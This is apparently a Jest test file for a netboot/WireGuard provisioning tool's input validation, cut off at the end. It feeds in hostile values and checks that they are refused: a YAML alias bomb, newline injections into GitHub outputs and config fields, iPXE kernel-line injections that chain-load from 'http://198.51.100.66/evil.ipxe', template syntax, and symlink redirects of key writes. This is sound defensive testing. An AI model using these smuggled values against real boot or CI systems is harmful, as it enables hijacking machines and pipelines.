// Issue 13, part 6: every bad input is refused with a clear error (file,
// entry, field, what is wrong, what is allowed), nothing is written, and no
// command prints a stack trace. One describe per category. Every site here is
// built from the tests' own fixtures (test/support/site.ts, test/fixtures/site).
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { repoTempDir } from "../support/files";
import { parse, stringify } from "yaml";
import { DEPLOYED_IMAGES, githubOutputProblems, main as checkDeployableMain } from "../../bin/check-deployable";
import { main as peerConfigMain } from "../../bin/wg-peer-config";
import { main as keygenMain } from "../../bin/wg-keygen";
import { parseSite, loadSite, siteFileFromEnv } from "../../lib/input/settings";
import { generateWireguardKeyPair, publicKeyOf, readWireguardKeyFile } from "../../lib/input/wireguard/keys";
import { parsePeers } from "../../lib/input/wireguard/peers";
import { DataFileError, YamlSource, type Problem } from "../../lib/input/yaml-source";
import { startCommand } from "../support/commands";
import { fixtureSiteFrom, fixtureSiteValue, FIXTURES, siteFrom } from "../support/site";

const FIXTURE_PEERS = join(FIXTURES, "site/peers.yaml");
const FIXTURE_GATEWAY_PUB = readFileSync(join(FIXTURES, "site/gateway.pub"), "utf8").trim();
const STACK_LINE = /^ {4}at /m;
const ALL_ZERO_KEY = "A".repeat(43) + "=";

const tempDir = (name: string) => mkdtempSync(join(tmpdir(), `netboot-bad-${name}-`));

/** The problems a DataFileError carries, or a failure when `fn` does not throw one. */
function problemsOf(fn: () => unknown): Problem[] {
  try {
    fn();
  } catch (err) {
    if (err instanceof DataFileError) return [...err.problems];
    throw err;
  }
  throw new Error("expected the input to be refused with a DataFileError");
}

/** Problems of a settings variant of the fixture site, as `field: message` (the exact field, then the message). */
function siteProblems(edit: (site: Record<string, any>) => void): string[] {
  return problemsOf(() => siteFrom(edit)).map((p) => `${p.field}: ${p.message}`);
}

/** The one problem a site variant has for `field`. */
function siteProblem(field: string, edit: (site: Record<string, any>) => void): string {
  const found = siteProblems(edit).filter((p) => p.startsWith(`${field}: `));
  expect(found).toHaveLength(1);
  return found[0];
}

/** Captures what an in-process command writes to stdout and stderr. */
function captureOutput(): { stdout: () => string; stderr: () => string } {
  const out = jest.spyOn(process.stdout, "write").mockImplementation(() => true);
  const err = jest.spyOn(process.stderr, "write").mockImplementation(() => true);
  const text = (spy: jest.SpyInstance) => () => spy.mock.calls.map((c) => String(c[0])).join("");
  return { stdout: text(out), stderr: text(err) };
}

const ALIAS_BOMB = [
  'a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]',
  "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]",
  "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]",
  "d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]",
  "e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]",
  "f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]",
  "",
].join("\n");

describe("YAML and JSON files: a size limit, an alias limit, regular files only", () => {
  test("an alias bomb is refused with the limit, placed at the first alias, not thrown as a crash", () => {
    const [p] = problemsOf(() => parseSite(YamlSource.parse(ALIAS_BOMB, "sites/bomb.yaml")));
    expect(p).toMatchObject({ file: "sites/bomb.yaml", line: 2, field: "" });
    expect(p.message).toBe(
      "YAML aliases (*name) expand to more than 100 values, as an alias bomb does; allowed: at most 100 alias expansions per file: write repeated values out instead",
    );
    // A few aliases are fine.
    expect(YamlSource.parse("a: &a x\nb: *a\nc: *a\n", "ok.yaml").value()).toEqual({ a: "x", b: "x", c: "x" });
  });

  test("an alias before its anchor is a problem of the file, not a crash", () => {
    const problems = problemsOf(() => parsePeers(YamlSource.parse("peers: *nope\n", "wireguard/peers.yaml"), siteFrom()));
    expect(problems).toEqual([{ file: "wireguard/peers.yaml", line: 1, field: "", message: expect.stringContaining("YAML alias: Unresolved alias") }]);
  });

  test("a file over 1 MiB is refused before it is parsed, saying the limit", () => {
    const file = join(tempDir("big"), "site.yaml");
    writeFileSync(file, `# ${"x".repeat(1024 * 1024)}\n`);
    const [p] = problemsOf(() => loadSite(file));
    expect(p.field).toBe("");
    expect(p.message).toBe("is 1048579 bytes, over the limit; allowed: a regular file of at most 1 MiB (1048576 bytes)");
    // The same limit for text that does not come from a file (boot-diff reads files from git).
    expect(problemsOf(() => YamlSource.parse(" ".repeat(1024 * 1024 + 1), "git:sites/home.yaml"))[0].message).toMatch(/^is 1048577 bytes, over the limit; allowed: a regular file of at most 1 MiB/);
  });

  test("only regular files are read: a device or a directory is refused without reading it", () => {
    expect(problemsOf(() => loadSite("/dev/null"))).toEqual([
      { file: "/dev/null", field: "", message: "is a character device, not a regular file; allowed: a regular file of at most 1 MiB (1048576 bytes)" },
    ]);
    const dir = tempDir("dir");
    expect(problemsOf(() => loadSite(dir))[0].message).toBe("is a directory, not a regular file; allowed: a regular file of at most 1 MiB (1048576 bytes)");
  });

  test("cdktf.json is read under the same rules (regular file, at most 1 MiB)", () => {
    expect(problemsOf(() => siteFileFromEnv({}, "/dev/null"))).toEqual([
      { file: "/dev/null", field: "", message: "is a character device, not a regular file; allowed: a regular file of at most 1 MiB (1048576 bytes)" },
    ]);
    const big = join(tempDir("cdktf"), "cdktf.json");
    writeFileSync(big, `{"context": {}}${" ".repeat(1024 * 1024)}`);
    expect(problemsOf(() => siteFileFromEnv({}, big))[0].message).toMatch(/^is \d+ bytes, over the limit; allowed: a regular file of at most 1 MiB \(1048576 bytes\)$/);
  });

  test("npm run validate refuses SITE_CONFIG=/dev/zero and an alias bomb: one line each, exit 1, no stack trace, no hang", async () => {
    const bomb = join(tempDir("bomb"), "site.yaml");
    writeFileSync(bomb, ALIAS_BOMB);
    const [zero, aliases] = await Promise.all([startCommand("validate", [], { env: { SITE_CONFIG: "/dev/zero" } }), startCommand("validate", [], { env: { SITE_CONFIG: bomb } })]);
    expect(zero.signal).toBeNull(); // not killed by the timeout
    expect(zero.status).toBe(1);
    expect(zero.stderr).toBe(
      "site: /dev/zero\n/dev/zero: (document): is a character device, not a regular file; allowed: a regular file of at most 1 MiB (1048576 bytes)\n",
    );
    expect(aliases.status).toBe(1);
    expect(aliases.stderr).toMatch(/^site: .*\n.*site\.yaml:2: \(document\): YAML aliases \(\*name\) expand to more than 100 values/);
    expect(aliases.stderr).not.toMatch(STACK_LINE);
    expect(zero.stdout + aliases.stdout).toBe("");
  }, 60_000);
});

describe("site settings: what each value's consumer forbids", () => {
  test("a field an earlier version read says what to do instead of \"unknown field\" (talos.configSecrets: adopt the cluster first)", () => {
    const retired = siteProblem("talos.configSecrets", (v) => (v.talos.configSecrets = { controlplane: "netboot-talos-controlplane", worker: "netboot-talos-worker" }));
    expect(retired).toMatch(/^talos\.configSecrets: retired: netboot now generates each machine's Talos config with the Talos provider/);
    expect(retired).toContain('docs/upgrading.md, "Upgrading a site whose Talos configs were in Secret Manager"');
    // Any other unknown field is still just that.
    expect(siteProblem("talos.configSecret", (v) => (v.talos.configSecret = "x"))).toMatch(/^talos\.configSecret: unknown field; allowed here: version, /);
  });

  test("line-oriented consumers (GitHub Actions outputs, the backend block): no newline, no template syntax", () => {
    expect(siteProblem("gke.location", (v) => ((v.gke.mode = "existing"), (v.gke.location = "europe-west1-b\nproject=attacker")))).toMatch(
      /^gke\.location: "europe-west1-b\\nproject=attacker" contains a newline; allowed: a GCP zone or region .*cluster_location output/,
    );
    expect(siteProblem("matchbox.inventoryFile", (v) => (v.matchbox.inventoryFile = "test/fixtures/site/machines.yaml\nproject=attacker"))).toContain(
      "contains a line break or another control character; allowed: a path relative to the repository root, on one line",
    );
    expect(siteProblem("state.prefix", (v) => (v.state.prefix = "netboot${path.root}"))).toContain('contains Terraform template syntax ("${" or "%{"); allowed: a GCS object prefix');
  });

  test("values that become GCP names or ids: no template syntax, no spaces, their documented form", () => {
    expect(siteProblem("gke.location", (v) => ((v.gke.mode = "existing"), (v.gke.location = "${var.zone}")))).toBe(
      'gke.location: "${var.zone}" contains Terraform template syntax ("${" or "%{"); allowed: a GCP zone or region of lower-case letters, digits and \'-\', e.g. europe-west4-a or europe-west4 (it becomes the cluster\'s location and the workflows\' cluster_location output)',
    );
    expect(siteProblem("gke.machineType", (v) => (v.gke.machineType = "%{ if true }e2-small%{ endif }"))).toMatch(/contains a space; allowed: a machine type/);
    expect(siteProblem("gke.machineType", (v) => (v.gke.machineType = "e2-${size}"))).toMatch(/contains Terraform template syntax/);
    expect(siteProblem("gke.machineType", (v) => (v.gke.machineType = "E2_SMALL"))).toMatch(/"E2_SMALL" is not a Compute Engine machine type; allowed: a machine type of lower-case letters, digits and '-', e\.g\. e2-small/);
  });

  test("GCP name limits are checked after prefixing: the longest name a prefix starts must fit", () => {
    const prefix = `nbfix-${"a".repeat(14)}`; // 20 characters: "<prefix>-wg-gateway" has 31
    expect(prefix).toHaveLength(20);
    expect(siteProblem("namePrefix", (v) => (v.namePrefix = prefix))).toBe(
      `namePrefix: "${prefix}" (20 characters) makes names GCP refuses: service account id "${prefix}-wg-gateway" has 31 characters (GCP allows 6-30); allowed: a namePrefix of at most 19 characters`,
    );
    expect(siteFrom((v) => (v.namePrefix = prefix.slice(0, 19))).namePrefix).toHaveLength(19);

    const cluster = `nbfix-cluster-${"a".repeat(22)}`; // 36 characters, a valid GKE cluster name (at most 40)
    expect(cluster).toHaveLength(36);
    expect(siteProblem("gke.clusterName", (v) => (v.gke.clusterName = cluster))).toBe(
      `gke.clusterName: "${cluster}" (36 characters) makes the node pool name "${cluster}-pool" 41 characters; GKE allows at most 40, so allowed: a gke.clusterName of at most 35 characters when gke.mode is "create"`,
    );
    expect(siteFrom((v) => (v.gke.clusterName = cluster.slice(0, 35))).gke.clusterName).toHaveLength(35);
    // An existing cluster's name is whatever it is: no node pool is created.
    expect(siteFrom((v) => ((v.gke.mode = "existing"), (v.gke.location = "europe-west1-b"), (v.gke.clusterName = cluster))).gke.clusterName).toBe(cluster);
  });

  test("rescue.args reach the iPXE kernel line: the one kernel-argument rule (iPXE's ${mac}/${ip} expansions stay allowed)", () => {
    const args = (list: string[]) => siteProblems((v) => (v.rescue.args = list));
    const allowed =
      'allowed: one token iPXE and Linux both read as one argument: no spaces or control characters, not "&&", "||", ";" or starting with "#", no "${" (iPXE settings expansion) other than ${mac}, ${mac:hexhyp}, ${net0/mac:hexhyp}, ${ip} and the like, balanced double quotes, e.g. console=ttyS1,115200n8';
    expect(args(["boot=live", "quiet\nchain http://198.51.100.66/evil.ipxe"])).toEqual([
      `rescue.args[1]: "quiet\\nchain http://198.51.100.66/evil.ipxe" is not one kernel argument: it contains a newline; ${allowed}`,
    ]);
    expect(args(["console=ttyS0 quiet"])).toEqual([`rescue.args[0]: "console=ttyS0 quiet" is not one kernel argument: it contains a space; ${allowed}`]);
    expect(args(["a\tb"])).toEqual([`rescue.args[0]: "a\\tb" is not one kernel argument: it contains a control character (e.g. a tab); ${allowed}`]);
    expect(args([""])).toEqual([`rescue.args[0]: "" is empty; ${allowed}`]);
    // Regression (issue 26): "&&", "||", a second initrd= and an unmatched quote were accepted.
    expect(args(["boot=live", "&&", "chain", "http://198.51.100.66/x"])).toEqual([
      `rescue.args[1]: "&&" is an iPXE command separator, which would run the rest of the kernel line as another iPXE command; ${allowed}`,
    ]);
    expect(args(["||"])).toEqual([`rescue.args[0]: "||" is an iPXE command separator, which would run the rest of the kernel line as another iPXE command; ${allowed}`]);
    expect(args(["#"])).toEqual([`rescue.args[0]: "#" starts an iPXE comment, which would drop every argument after it (netboot's talos.config= too); ${allowed}`]);
    expect(args(["initrd=evil.img"])).toEqual(["rescue.args[0]: initrd= is set by the boot profile itself (initrd=, talos.platform=, talos.config=, talos.events.sink=, talos.logging.kernel=); remove it"]);
    expect(args(['x="quoted'])).toEqual([`rescue.args[0]: "x=\\"quoted" has an unmatched double quote, so Linux would read the rest of the command line as its value; ${allowed}`]);
    expect(args(["x=${filename}"])).toEqual([`rescue.args[0]: "x=\${filename}" contains "\${", which iPXE expands as a setting when it runs the kernel line; ${allowed}`]);
    expect(siteFrom((v) => (v.rescue.args = ["netboot.mac=${net0/mac:hexhyp}", 'x="a"'])).rescue?.args).toEqual(["netboot.mac=${net0/mac:hexhyp}", 'x="a"']);
  });

  test("asset URLs must parse as URLs (WHATWG), on one line, with a file name and without credentials", () => {
    const url = (field: "kernelUrl" | "initrdUrl", value: string) => siteProblem(`rescue.${field}`, (v) => (v.rescue[field] = value));
    expect(url("kernelUrl", "https://rescue.example.test/vmlinuz\n#!ipxe")).toMatch(/^rescue\.kernelUrl: "https:\/\/rescue\.example\.test\/vmlinuz\\n#!ipxe" contains a newline; allowed: an absolute https:\/\/ URL/);
    expect(url("kernelUrl", "https://rescue.example.test/boot vmlinuz")).toMatch(/contains a space; allowed: an absolute https:\/\/ URL without spaces or line breaks/);
    expect(url("kernelUrl", "https://rescue.example.test:99999/vmlinuz")).toMatch(/is not a URL \(WHATWG URL parsing fails: e\.g\. no host, a bad port/);
    expect(url("initrdUrl", "https://")).toMatch(/^rescue\.initrdUrl: "https:\/\/" is not a URL/);
    expect(url("initrdUrl", "https://rescue.example.test/live/")).toMatch(/does not end in a file name \(Matchbox serves the asset as rescue\/<file name>\)/);
    expect(url("initrdUrl", "https://user:secret@rescue.example.test/initrd.img")).toMatch(/contains credentials \(user:password@\); allowed: a URL without credentials/);
    expect(url("initrdUrl", "https://mirror.example.test/vmlinuz")).toBe(
      'rescue.initrdUrl: "https://mirror.example.test/vmlinuz" is stored as rescue/vmlinuz, the same file as rescue.kernelUrl; allowed: URLs whose file names differ',
    );
    const chain = siteProblems((v) => (v.ipxeChainEfi = { url: "https://bad host/netboot-chain.efi", sha256: "a".repeat(64) }));
    expect(chain).toEqual([expect.stringMatching(/^ipxeChainEfi\.url: "https:\/\/bad host\/netboot-chain\.efi" contains a space/)]);
  });

  test("homePublicCidrs broader than /8 need acceptHandshakesFromAnyAddress, like 0.0.0.0/0", () => {
    for (const cidr of ["32.0.0.0/3", "16.0.0.0/4", "2.0.0.0/7"]) {
      expect(siteProblem("homePublicCidrs[0]", (v) => (v.homePublicCidrs = [cidr]))).toMatch(
        new RegExp(`^homePublicCidrs\\[0\\]: ${cidr.replace(/\./g, "\\.")} spans 2\\^\\d+ addresses, broader than /8: as good as opening UDP 51820 to every address; set acceptHandshakesFromAnyAddress: true`),
      );
      expect(siteFrom((v) => ((v.homePublicCidrs = [cidr]), (v.acceptHandshakesFromAnyAddress = true))).homePublicCidrs).toEqual([cidr]);
    }
    // The two halves of the address space are not public ranges at all.
    expect(siteProblem("homePublicCidrs[0]", (v) => (v.homePublicCidrs = ["0.0.0.0/1", "128.0.0.0/1"]))).toMatch(/0\.0\.0\.0\/1 is not a public range/);
    expect(siteProblem("homePublicCidrs[1]", (v) => (v.homePublicCidrs = ["0.0.0.0/1", "128.0.0.0/1"]))).toMatch(/128\.0\.0\.0\/1 is not a public range/);
    // A /8 is the broadest range accepted without the opt-in.
    expect(siteFrom((v) => (v.homePublicCidrs = ["11.0.0.0/8"])).homePublicCidrs).toEqual(["11.0.0.0/8"]);
  });

  test("special addresses are not hosts: network and broadcast addresses, the Kubernetes API's Service IP", () => {
    const gateways = (router: string) => siteProblem("bootVlanGateways.10.0.20.0/24", (v) => (v.bootVlanGateways = { "10.0.20.0/24": router }));
    expect(gateways("10.0.20.0")).toBe("bootVlanGateways.10.0.20.0/24: 10.0.20.0 is the network address of 10.0.20.0/24, not a router's address; allowed: a host address of 10.0.20.0/24, e.g. 10.0.20.1");
    expect(gateways("10.0.20.255")).toMatch(/10\.0\.20\.255 is the broadcast address of 10\.0\.20\.0\/24/);

    const clusterIp = (ip: string) => siteProblem("matchbox.clusterIp", (v) => (v.matchbox.clusterIp = ip));
    expect(clusterIp("10.136.0.1")).toBe(
      "matchbox.clusterIp: 10.136.0.1 is the first host of network.servicesCidr 10.136.0.0/20, which Kubernetes gives the API server's own Service (kubernetes.default); allowed: another address of network.servicesCidr 10.136.0.0/20, e.g. 10.136.0.10",
    );
    expect(clusterIp("10.136.0.0")).toMatch(/^matchbox\.clusterIp: 10\.136\.0\.0 is the network address of network\.servicesCidr 10\.136\.0\.0\/20; allowed:/);
    expect(clusterIp("10.136.15.255")).toMatch(/is the broadcast address of network\.servicesCidr/);
    // The boot-report receiver's Service takes the next address, which must be a host address too.
    expect(clusterIp("10.136.15.254")).toBe(
      "matchbox.clusterIp: 10.136.15.254 leaves no room for the boot-report receiver's Service, which takes the next address (10.136.15.255), a host address of network.servicesCidr 10.136.0.0/20 too; allowed: another address of network.servicesCidr 10.136.0.0/20, e.g. 10.136.0.10",
    );
    expect(siteFrom((v) => (v.matchbox.clusterIp = "10.136.15.253")).matchbox.clusterIp).toBe("10.136.15.253");
  });
});

describe("WireGuard peers: not the gateway's key, not all zeros, not duplicated, host addresses", () => {
  const peersValue = () => parse(readFileSync(FIXTURE_PEERS, "utf8")) as { peers: Record<string, any>[] };
  const peerProblems = (edit: (peers: Record<string, any>[]) => void, gatewayPublicKey?: string) => {
    const value = peersValue();
    edit(value.peers);
    return problemsOf(() => parsePeers(YamlSource.parse(stringify(value), "wireguard/peers.yaml"), siteFrom(), gatewayPublicKey));
  };

  test("the all-zero key is refused, naming the peer and the field", () => {
    const [p] = peerProblems((peers) => (peers[1].publicKey = ALL_ZERO_KEY));
    expect(p).toMatchObject({ file: "wireguard/peers.yaml", entry: "fixture-admin", field: "peers[1].publicKey" });
    expect(p.message).toBe(`"${ALL_ZERO_KEY}" is the all-zero key, a placeholder, not a real key; allowed: a real key, as printed by \`wg pubkey\` or \`npm run wg:keygen\``);
  });

  test("a peer holding the gateway's own public key is refused when the site is loaded (and duplicates still are)", () => {
    const dir = repoTempDir("peers"); // inside the repository, as a peers file must be
    const value = peersValue();
    value.peers[1].publicKey = FIXTURE_GATEWAY_PUB;
    const file = join(dir, "peers.yaml");
    writeFileSync(file, stringify(value));
    const [p, ...rest] = problemsOf(() => fixtureSiteFrom((v) => (v.wireguard.peersFile = file)));
    expect(rest).toEqual([]);
    expect(p).toMatchObject({ file, entry: "fixture-admin", field: "peers[1].publicKey" });
    expect(p.message).toBe(
      "is the gateway's own public key (wireguard.gatewayPublicKeyFile test/fixtures/site/gateway.pub); the gateway cannot be its own peer: on the peer's machine run npm run wg:keygen -- fixture-admin and put the printed public key here",
    );
    expect(peerProblems((peers) => (peers[1].publicKey = peers[0].publicKey)).map((q) => `${q.field}: ${q.message}`)).toEqual([
      'peers[1].publicKey: duplicate public key (also peers[0] "fixture-router"); every peer needs its own key pair',
    ]);
  });

  test("a peer's tunnel address is a host of the tunnel: not its network or broadcast address", () => {
    expect(peerProblems((peers) => (peers[1].tunnelAddress = "10.99.0.0")).map((q) => `${q.field}: ${q.message}`)).toEqual([
      "peers[1].tunnelAddress: 10.99.0.0 is the network address of wireguard.tunnelCidr 10.99.0.0/24; allowed: a host address of 10.99.0.0/24 other than the gateway's",
    ]);
    expect(peerProblems((peers) => (peers[0].tunnelAddress = "10.99.0.255"))[0]).toMatchObject({ entry: "fixture-router", field: "peers[0].tunnelAddress", message: expect.stringContaining("is the broadcast address") });
  });
});

describe("key files and the key-writing commands", () => {
  afterEach(() => jest.restoreAllMocks());

  /** A site whose only peer's private key this test holds; everything in a temporary directory. */
  function siteWithPeer(): { dir: string; env: NodeJS.ProcessEnv; keyFile: string; peersFile: string } {
    const dir = tempDir("peer-config");
    const pair = generateWireguardKeyPair();
    const keyFile = join(dir, "fixture-router.key");
    writeFileSync(keyFile, `${pair.privateKey}\n`, { mode: 0o600 });
    const peersFile = join(repoTempDir("peer-config"), "peers.yaml");
    writeFileSync(peersFile, stringify({ peers: [{ name: "fixture-router", publicKey: pair.publicKey, tunnelAddress: "10.99.0.2", routedCidrs: ["10.0.20.0/24"] }] }));
    const site = fixtureSiteValue();
    site.wireguard.peersFile = peersFile;
    writeFileSync(join(dir, "site.yaml"), stringify(site));
    return { dir, env: { SITE_CONFIG: join(dir, "site.yaml"), NETBOOT_KEY_DIR: dir }, keyFile, peersFile };
  }

  test("argument errors: one error line naming the flag, the usage line, exit 2, no stack trace, nothing written (the real commands)", async () => {
    const keyDir = tempDir("keys");
    const [unknown, missing] = await Promise.all([
      startCommand("wg-keygen", ["home-router", "--bogus"], { env: { NETBOOT_KEY_DIR: keyDir } }),
      startCommand("wg-peer-config", ["fixture-router", "--key"], { env: { SITE_CONFIG: resolve(FIXTURES, "site/site.yaml") } }),
    ]);
    expect(unknown.status).toBe(2);
    expect(unknown.stderr).toMatch(/^error: Unknown option '--bogus'\..*\nusage: npm run wg:keygen -- <peer-name> \[--out <private-key-file>\] \[--force\]\n$/);
    expect(missing.status).toBe(2);
    expect(missing.stderr).toBe(
      "error: Option '--key <value>' argument missing\nusage: npm run wg:peer-config -- <peer> [--endpoint <public-ip>] [--key <private-key-file>] [--out <file>] [--force]\n",
    );
    for (const run of [unknown, missing]) {
      expect(run.stderr).not.toMatch(STACK_LINE);
      expect(run.stdout).toBe("");
    }
    expect(readdirSync(keyDir)).toEqual([]);
  }, 60_000);

  test("--help and -h: every command prints its usage on stdout and exits 0, reading nothing", async () => {
    const keyDir = tempDir("keys");
    // An unreadable site proves nothing was read: any command that got past --help would fail on it.
    const env = { NETBOOT_KEY_DIR: keyDir, SITE_CONFIG: join(keyDir, "no-such-site.yaml") };
    // The scripts without an exported main, as npm runs them ...
    const spawned: [string, string[], RegExp][] = [
      ["validate", ["--help"], /^usage: npm run validate -- /],
      ["boot-preview", ["-h"], /^usage: npm run boot-preview -- <mac>/],
      ["boot-diff", ["--help"], /^usage: npm run boot-diff -- --base <git-ref>/],
    ];
    const runs = await Promise.all(spawned.map(([name, args]) => startCommand(name, args, { env })));
    runs.forEach((run, i) => {
      const [name, args, usage] = spawned[i];
      expect({ command: `${name} ${args.join(" ")}`, status: run.status, stderr: run.stderr }).toEqual({ command: `${name} ${args.join(" ")}`, status: 0, stderr: "" });
      expect(run.stdout).toMatch(usage);
    });
    // ... and the others' mains in process.
    const io = captureOutput();
    expect(checkDeployableMain(["--help"], env)).toBe(0);
    expect(keygenMain(["home-router", "--help"], env)).toBe(0);
    expect(peerConfigMain(["-h"], env)).toBe(0);
    expect(io.stderr()).toBe("");
    expect(io.stdout()).toMatch(/^usage: npm run check-deployable -- .*\nusage: npm run wg:keygen -- <peer-name>.*\nusage: npm run wg:peer-config -- <peer>.*\n$/);
    expect(readdirSync(keyDir)).toEqual([]);
  }, 60_000);

  test("argument errors in process: a missing or empty value names the flag, exit 2, nothing written", () => {
    const dir = tempDir("keys");
    const io = captureOutput();
    expect(keygenMain(["home-router", "--out"], { NETBOOT_KEY_DIR: dir })).toBe(2);
    expect(keygenMain(["home-router", "--out="], { NETBOOT_KEY_DIR: dir })).toBe(2);
    expect(keygenMain(["home-router", "other-peer"], { NETBOOT_KEY_DIR: dir })).toBe(2);
    expect(io.stderr()).toMatch(/^error: Option '--out <value>' argument missing\nusage: npm run wg:keygen.*\nerror: --out needs a value, got an empty one\nusage: npm run wg:keygen.*\nusage: npm run wg:keygen.*\n {2}peer-name: one name/);
    expect(readdirSync(dir)).toEqual([]);
  });

  test("wg:keygen says where each private key goes next: the gateway's to Secret Manager (not 'never leaves this machine'), a peer's into its config", () => {
    const dir = tempDir("keys");
    const io = captureOutput();
    expect(keygenMain(["gateway"], { NETBOOT_KEY_DIR: dir })).toBe(0);
    expect(keygenMain(["home-router"], { NETBOOT_KEY_DIR: dir })).toBe(0);
    const [gateway, peer] = io.stderr().split("\n").filter((l) => l.startsWith("private key written to"));
    expect(gateway).toBe(
      `private key written to ${join(dir, "gateway.key")} (mode 0600); add it as a version of the Secret Manager secret wireguard.privateKeySecret names (gcloud secrets versions add <secret> --data-file <this file>), the only copy that leaves this machine; never into the repository`,
    );
    expect(peer).toContain("wg:peer-config reads it to render the peer's config");
    expect(io.stderr()).not.toContain("never leaves this machine");
  });

  test("wg:keygen refuses a path that is a symbolic link (even a dangling one, even with --force) and writes nothing", () => {
    const dir = tempDir("keys");
    const victim = join(dir, "victim.txt");
    writeFileSync(victim, "keep\n", { mode: 0o644 });
    const link = join(dir, "router.key");
    symlinkSync(victim, link);
    const dangling = join(dir, "dangling.key");
    const elsewhere = join(dir, "elsewhere", "planted.key");
    mkdirSync(join(dir, "elsewhere"));
    symlinkSync(elsewhere, dangling);
    const io = captureOutput();
    expect(keygenMain(["home-router", "--out", link])).toBe(1);
    expect(keygenMain(["home-router", "--out", link, "--force"])).toBe(1);
    expect(keygenMain(["home-router", "--out", dangling])).toBe(1);
    const lines = io.stderr().trim().split("\n");
    expect(lines).toEqual([
      `error: --out ${link} is a symbolic link; refusing to write a private key through it (it could point anywhere, e.g. into a shared or tracked directory); remove the link or choose another path`,
      expect.stringContaining(`error: --out ${link} is a symbolic link`),
      expect.stringContaining(`error: --out ${dangling} is a symbolic link`),
    ]);
    expect(io.stdout()).toBe("");
    expect(readFileSync(victim, "utf8")).toBe("keep\n");
    expect(existsSync(elsewhere)).toBe(false);
  });

  test("wg:keygen --force over an existing world-readable file leaves a 0600 file with the new key", () => {
    const dir = tempDir("keys");
    const file = join(dir, "home-router.key");
    writeFileSync(file, "old\n");
    chmodSync(file, 0o644);
    const io = captureOutput();
    expect(keygenMain(["home-router", "--out", file])).toBe(1);
    expect(io.stderr()).toContain(`error: ${file} exists; pass --force to replace it`);
    expect(readFileSync(file, "utf8")).toBe("old\n");
    expect(keygenMain(["home-router", "--out", file, "--force"])).toBe(0);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const privateKey = readFileSync(file, "utf8").trim();
    expect(io.stdout()).toBe(`${publicKeyOf(privateKey)}\n`);
    expect(readdirSync(dir)).toEqual(["home-router.key"]); // no temporary file left behind
  });

  test("wg:peer-config --key refuses a private key that is not the peer's, naming the peer and the peers file, and writes nothing", () => {
    const { dir, env, peersFile } = siteWithPeer();
    const other = generateWireguardKeyPair();
    const wrongKey = join(dir, "other.key");
    writeFileSync(wrongKey, `${other.privateKey}\n`, { mode: 0o600 });
    const out = join(dir, "router.conf");
    const io = captureOutput();
    expect(peerConfigMain(["fixture-router", "--endpoint", "198.51.100.7", "--key", wrongKey, "--out", out], env)).toBe(1);
    const peer = parse(readFileSync(peersFile, "utf8")).peers[0];
    expect(io.stderr()).toBe(
      `site: ${join(dir, "site.yaml")}\n` +
        `error: --key ${wrongKey}: its public key is ${other.publicKey}, but peer "fixture-router" in ${peersFile} has publicKey ${peer.publicKey}; pass the private key wg:keygen wrote for fixture-router, or put this key's public key in ${peersFile}\n`,
    );
    expect(io.stderr()).not.toContain(other.privateKey);
    expect(existsSync(out)).toBe(false);
    expect(io.stdout()).toBe("");
  });

  test("wg:peer-config --out refuses a symbolic link and ends 0600 over an existing world-readable file", () => {
    const { dir, env } = siteWithPeer();
    const victim = join(dir, "victim.txt");
    writeFileSync(victim, "keep\n");
    const link = join(dir, "router.conf");
    symlinkSync(victim, link);
    const io = captureOutput();
    const args = (out: string) => ["fixture-router", "--endpoint", "198.51.100.7", "--out", out];
    expect(peerConfigMain(args(link), env)).toBe(1);
    expect(io.stderr()).toContain(`error: --out ${link} is a symbolic link; refusing to write a private key through it`);
    expect(readFileSync(victim, "utf8")).toBe("keep\n");

    const existing = join(dir, "existing.conf");
    writeFileSync(existing, "old\n");
    chmodSync(existing, 0o644);
    // Never silently replaced (issue 26): --force is needed.
    expect(peerConfigMain(args(existing), env)).toBe(1);
    expect(io.stderr()).toContain(`error: --out ${existing} exists; pass --force to replace it\n`);
    expect(readFileSync(existing, "utf8")).toBe("old\n");
    expect(peerConfigMain([...args(existing), "--force"], env)).toBe(0);
    expect(statSync(existing).mode & 0o777).toBe(0o600);
    expect(readFileSync(existing, "utf8")).toMatch(/^\[Interface\]/);
  });

  test("key files are read under a size limit and only when regular (--key /dev/zero cannot hang)", () => {
    expect(readWireguardKeyFile("/dev/null")).toEqual({ error: "it is a character device, not a regular file; allowed: a regular file of at most 4 KiB (4096 bytes)" });
    const big = join(tempDir("key"), "big.key");
    writeFileSync(big, `${generateWireguardKeyPair().privateKey}\n${" ".repeat(5000)}`);
    expect(readWireguardKeyFile(big)).toEqual({ error: expect.stringMatching(/^it is 5045 bytes, over the limit; allowed: a regular file of at most 4 KiB/) });
  });
});

describe("check-deployable --github-output", () => {
  afterEach(() => jest.restoreAllMocks());

  test("a value with a line break is refused, naming the output and its source, and nothing is written", () => {
    const dir = tempDir("github-output");
    const site = fixtureSiteValue();
    site.example = false;
    site.gcp.project = "nbfix-home-424242";
    site.state = { backend: "gcs", bucket: "nbfix-home-tfstate", prefix: "netboot" };
    site.matchbox.rpcEndpoint = "127.0.0.1:8081";
    // Not the example's documentation-range addresses, which check-deployable refuses before it writes outputs.
    site.homePublicCidrs = ["81.2.69.160/32"];
    site.network.controlPlaneAuthorizedCidrs = ["81.2.69.160/32"];
    // A file name can hold a newline; a site file's path is not a setting, so only the output check sees it.
    const file = join(dir, "home\nproject=attacker-project.yaml");
    writeFileSync(file, stringify(site));
    const out = join(dir, "github-output");
    writeFileSync(out, "earlier=kept\n");
    const io = captureOutput();
    expect(checkDeployableMain([file, "--github-output"], { GITHUB_OUTPUT: out }, DEPLOYED_IMAGES.filter((i) => i.ref.includes("@sha256:")))).toBe(1);
    expect(readFileSync(out, "utf8")).toBe("earlier=kept\n");
    expect(io.stderr()).toContain(
      `error: --github-output: nothing written to $GITHUB_OUTPUT:\n  - site_file: ${JSON.stringify(file)} (the site file's path) contains a line break; allowed: a value on one line`,
    );
    expect(githubOutputProblems({ project: "p", cluster_location: "europe-west1-b\r" })).toEqual([
